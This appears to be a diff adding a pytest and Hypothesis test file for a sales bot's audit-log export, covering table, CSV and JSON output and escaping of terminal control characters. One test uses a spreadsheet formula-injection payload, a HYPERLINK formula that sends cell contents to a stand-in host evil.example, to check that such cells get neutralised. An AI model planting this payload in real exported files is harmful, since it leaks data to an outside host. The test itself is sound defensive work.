@@ -1,0 +1,318 @@
+import csv
+import io
+import json
+import unicodedata
+from collections.abc import Iterator
+from dataclasses import fields, replace
+from datetime import UTC, datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.access.requests import Permission, State
+from bot.commands.record import Record
+from bot.operations.audit import WIDTH, Form, printable, write, write_access
+from tests.memory import CHANGE
+
+CHANGED = replace(
+    CHANGE,
+    reference="H4WSYDSE",
+    at=datetime(2026, 11, 24, 10, 31, 7, 250_000, tzinfo=UTC),
+    user_id="U012AB3CD",
+    channel_id="C0SALES",
+    text="aB3dE5fG7hJ9kL1mN2pQ won",
+    opportunity_id="aB3dE5fG7hJ9kL1mN2pQ",
+    trace_id="trace",
+    finished_at=datetime(2026, 11, 24, 10, 31, 8, tzinfo=UTC),
+)
+NAMES = [field.name for field in fields(Record)]
+
+_texts = st.text()
+_maybe = st.none() | _texts
+_times = st.datetimes(timezones=st.just(UTC))
+RECORDS = st.builds(
+    Record,
+    key=_texts,
+    reference=_texts,
+    at=_times,
+    team_id=_texts,
+    user_id=_texts,
+    channel_id=_texts,
+    text=_texts,
+    opportunity_id=_texts,
+    name=_maybe,
+    status=_texts,
+    lost_reason_id=_maybe,
+    undoes=_maybe,
+    state=_texts | st.just("finished"),
+    before=_maybe,
+    before_lost_reason_id=_maybe,
+    after=_maybe,
+    outcome=_maybe | st.just("changed"),
+    effect=_maybe,
+    attempts=st.integers(min_value=0),
+    delivered=_maybe,
+    message_ts=_maybe,
+    trace_id=_maybe,
+    finished_at=st.none() | _times,
+    called=_maybe,
+    reason=_maybe,
+    consent=_texts,
+    continues=_maybe,
+    batch=_maybe,
+    note=_maybe,
+    public=st.booleans(),
+    announced_in=_maybe,
+    announced_ts=_maybe,
+)
+
+
+def _written(form: Form, *records: Record) -> str:
+    out = io.StringIO(newline="")
+    write(records, form, out)
+    return out.getvalue()
+
+
+def _row(record: Record) -> str:
+    header, row = _written(Form.TABLE, record).splitlines()
+    assert header.split() == ["when", "(UTC)", "who", "deal", "what", "became", "of", "it", "delivered", "reference"]
+    return row
+
+
+# --- table ----------------------------------------------------------------------------------------------------------
+
+
+def test_the_table_says_when_who_which_deal_what_became_of_it_and_where_to_look() -> None:
+    assert _written(Form.TABLE, CHANGED, replace(CHANGED, name=None, delivered="direct_message")) == (
+        "when (UTC)           who          deal                           "
+        "what became of it            delivered       reference\n"
+        "2026-11-24 10:31:07  U012AB3CD    New website                    "
+        "open → won                   response url    H4WSYDSE\n"
+        "2026-11-24 10:31:07  U012AB3CD    aB3dE5fG7hJ9kL1mN2pQ           "
+        "open → won                   direct message  H4WSYDSE\n"
+    )
+
+
+def test_the_example_of_the_readme_is_what_is_written() -> None:
+    day, deal = datetime(2026, 11, 24, tzinfo=UTC), "cD4eF6gH8jK1lM3nP5qR"
+    changed = replace(CHANGED, user_id="U0ANA")
+    undone = replace(changed, undoes="key", before="won", after="open", delivered="channel")
+    failed = replace(changed, user_id="U0BEN", opportunity_id=deal, name=None, status="lost", outcome="not_found")
+    begun = replace(changed, name="Spring campaign", outcome=None, state="running")
+    asked = replace(
+        changed, user_id="U0KIM", opportunity_id="", name=None, called="Globex", outcome="ambiguous", before=None
+    )
+    chosen = replace(changed, user_id="U0KIM", name="Training", continues="key")
+    written = _written(
+        Form.TABLE,
+        changed,
+        replace(undone, at=day.replace(hour=10, minute=32, second=40), reference="K7QM2XRA"),
+        replace(failed, at=day.replace(hour=11, minute=2, second=13), reference="P3TZ9WKC", delivered="undelivered"),
+        replace(begun, at=day.replace(hour=11, minute=2, second=15), reference="R8VN4YBD"),
+        replace(asked, at=day.replace(hour=11, minute=5, second=40), reference="IHVNQIYR"),
+        replace(chosen, at=day.replace(hour=11, minute=5, second=52), reference="SQH3KCV7"),
+    )
+
+    assert f"```\n{written}```\n" in (Path(__file__).parents[2] / "README.md").read_text()
+
+
+def test_a_table_without_rows_says_so() -> None:
+    assert _written(Form.TABLE) == "no commands\n"
+
+
+def test_the_table_is_for_a_terminal_of_120_columns() -> None:
+    assert 100 < WIDTH <= 120
+
+
+def test_times_are_shown_in_utc_whatever_they_came_in() -> None:
+    in_tokyo = replace(CHANGED, at=CHANGED.at.astimezone(timezone(timedelta(hours=9))))
+
+    assert _row(in_tokyo) == _row(CHANGED)
+
+
+@pytest.mark.parametrize(
+    ("changed", "shown"),
+    [
+        ({"undoes": "another", "before": "won", "after": "open", "status": "open"}, "won → open (undo) "),
+        ({"outcome": "already_so", "before": "won"}, "won: already so "),
+        ({"outcome": "overtaken"}, "won: overtaken "),
+        ({"outcome": "reason_wanted", "after": None}, "won: reason wanted "),
+        ({"before": "lost", "after": "lost", "status": "lost"}, "lost: reason added "),
+        ({"name": None, "called": "Acme", "outcome": "ambiguous"}, "Acme "),
+        ({"outcome": "not_confirmed", "after": None}, "won: not confirmed "),
+    ],
+)
+def test_what_became_of_a_command_is_shown_in_words(changed: dict[str, str | None], shown: str) -> None:
+    assert f"  {shown}" in _row(replace(CHANGED, **changed))  # type: ignore[arg-type]
+
+
+def test_a_command_that_is_not_finished_is_under_way() -> None:
+    begun = replace(CHANGED, state="running", outcome=None, after=None, delivered=None, finished_at=None)
+    assert _row(begun).count("under way") == 2
+    assert "won: under way" in _row(begun)
+
+    not_yet_told = replace(CHANGED, state="answered", delivered=None, finished_at=None)
+    assert "open → won" in _row(not_yet_told)
+    assert "under way" in _row(not_yet_told)
+
+
+def test_a_reply_that_did_not_arrive_is_visible() -> None:
+    assert "undelivered" in _row(replace(CHANGED, delivered="undelivered"))
+
+
+def test_what_an_earlier_version_never_delivered_is_shown_as_nothing() -> None:
+    row = _row(replace(CHANGED, outcome="interrupted", delivered=None))
+
+    assert "won: interrupted" in row
+    assert "under way" not in row
+
+
+def test_a_long_name_is_cut_with_an_ellipsis_and_its_neighbours_stay_in_line() -> None:
+    row = _row(replace(CHANGED, name="New website for the company with the long name"))
+
+    assert "New website for the company …  open" in row
+    assert row.index("H4WSYDSE") == _row(CHANGED).index("H4WSYDSE")
+
+
+@pytest.mark.parametrize("name", ["東京の新しいウェブサイト", "東" * 40, "a" + "東" * 40, "e\u0301te\u0301"])
+def test_letters_that_take_two_cells_or_none_stay_in_line_too(name: str) -> None:
+    before, _ = _row(replace(CHANGED, name=name)).split("open →")
+
+    assert _cells(before) == _row(CHANGED).index("open →")
+
+
+def test_accents_without_end_bury_nobody() -> None:
+    assert len(_row(replace(CHANGED, name="e" + "\u0301" * 1000))) < 2 * WIDTH
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("a\x1b[2Jb", "a�[2Jb"),
+        ("a\nb\tc\rd", "a b c d"),
+        ("a\x9b31mb", "a�31mb"),
+        ("a\u202eb", "a�b"),
+        ("a\u2028b\xa0c", "a b c"),
+        ("Müller → 東京", "Müller → 東京"),
+    ],
+)
+def test_nothing_that_would_steer_a_terminal_reaches_it(typed: str, shown: str) -> None:
+    assert printable(typed) == shown
+    assert f"  {shown} " in _row(replace(CHANGED, name=typed))
+
+
+@given(st.lists(RECORDS, max_size=4))
+def test_every_line_of_the_table_is_within_its_width_and_holds_no_control_character(records: list[Record]) -> None:
+    lines = _written(Form.TABLE, *records).split("\n")
+
+    assert lines.pop() == ""
+    assert len(lines) == len(records) + 1 if records else lines == ["no commands"]
+    assert all(_cells(line) <= WIDTH and line.isprintable() for line in lines)
+
+
+def _cells(text: str) -> int:
+    letters = [character for character in text if unicodedata.category(character) not in {"Mn", "Me"}]
+    return len(letters) + sum(unicodedata.east_asian_width(letter) in {"W", "F"} for letter in letters)
+
+
+# --- csv ------------------------------------------------------------------------------------------------------------
+
+
+def test_csv_has_a_header_and_every_field_and_ends_its_lines_as_the_standard_says() -> None:
+    assert _written(Form.CSV) == ",".join(NAMES) + "\r\n"
+    assert _written(Form.CSV, CHANGED).endswith(
+        "\r\nkey,H4WSYDSE,2026-11-24T10:31:07.250000+00:00,T1,U012AB3CD,C0SALES,aB3dE5fG7hJ9kL1mN2pQ won,"
+        "aB3dE5fG7hJ9kL1mN2pQ,New website,won,,,finished,open,,won,changed,,0,response_url,,trace,"
+        "2026-11-24T10:31:08+00:00,,,given,,,,True,,,\r\n"
+    )
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])  # noqa: RUF001 - the point
+def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(first: str) -> None:
+    formula = f'{first}HYPERLINK("http://evil.example?"&A1)'
+    _, row = csv.reader(io.StringIO(_written(Form.CSV, replace(CHANGED, text=formula)), newline=""))
+
+    assert row[NAMES.index("text")] == f"'{formula}"
+
+
+@given(st.lists(RECORDS, max_size=4))
+def test_csv_gives_back_every_field_once_the_apostrophe_is_taken_away(records: list[Record]) -> None:
+    header, *rows = csv.reader(io.StringIO(_written(Form.CSV, *records), newline=""), strict=True)
+
+    assert header == NAMES
+    assert [[cell.removeprefix("'") for cell in row] for row in rows] == [
+        ["" if value is None else str(value) for value in _values(record)] for record in records
+    ]
+
+
+# --- json -----------------------------------------------------------------------------------------------------------
+
+
+@given(st.lists(RECORDS, max_size=4))
+def test_json_is_an_array_with_one_object_on_each_line_that_has_every_field(records: list[Record]) -> None:
+    written = _written(Form.JSON, *records)
+
+    assert json.loads(written) == [dict(zip(NAMES, _values(record), strict=True)) for record in records]
+    assert written.isascii()
+    assert written.count("\n") == (len(records) + 2 if records else 1)
+
+
+def _values(record: Record) -> list[object]:
+    values = [getattr(record, name) for name in NAMES]
+    return [value.isoformat() if isinstance(value, datetime) else value for value in values]
+
+
+# --- all ------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("form", Form)
+def test_each_record_is_written_before_the_next_is_asked_for(form: Form) -> None:
+    out = io.StringIO()
+    seen = []
+
+    def records() -> Iterator[Record]:
+        for number in range(3):
+            yield replace(CHANGED, reference=f"REF-{number}")
+            seen.append(out.getvalue().count("REF-"))
+
+    write(records(), form, out)
+
+    assert seen == [1, 2, 3]
+
+
+# --- who was let in -------------------------------------------------------------------------------------------------
+
+ASKED = Permission("H4WSYDSE", "U0BEN", "T1", "C0SALES", datetime(2026, 11, 25, 11, tzinfo=UTC))
+APPROVED = replace(
+    ASKED, state=State.APPROVED, decided_by="U0KIM", decided_at=datetime(2026, 11, 25, 12, 30, tzinfo=UTC)
+)
+REVOKED = replace(
+    APPROVED, state=State.REVOKED, revoked_by="operator", revoked_at=datetime(2026, 11, 26, 8, tzinfo=UTC)
+)
+
+
+def _access(form: Form, *rows: Permission) -> str:
+    out = io.StringIO(newline="")
+    write_access(iter(rows), form, out)
+    return out.getvalue()
+
+
+def test_who_asks_and_who_was_let_in_is_a_table() -> None:
+    assert _access(Form.TABLE, ASKED, APPROVED, REVOKED).splitlines() == [
+        "asked (UTC)          who          where        state     by           since (UTC)          reference",
+        "2026-11-25 11:00:00  U0BEN        C0SALES      open                                        H4WSYDSE",
+        "2026-11-25 11:00:00  U0BEN        C0SALES      approved  U0KIM        2026-11-25 12:30:00  H4WSYDSE",
+        "2026-11-25 11:00:00  U0BEN        C0SALES      revoked   operator     2026-11-26 08:00:00  H4WSYDSE",
+    ]
+    assert _access(Form.TABLE) == "nobody\n"
+
+
+def test_programs_read_every_field_of_it() -> None:
+    (row,) = json.loads(_access(Form.JSON, REVOKED))
+    assert row["revoked_at"] == "2026-11-26T08:00:00+00:00"
+    assert list(row) == [field.name for field in fields(Permission)]
+    header, line = csv.reader(io.StringIO(_access(Form.CSV, REVOKED)))
+    assert header == list(row)
+    assert line[:2] == ["H4WSYDSE", "U0BEN"]
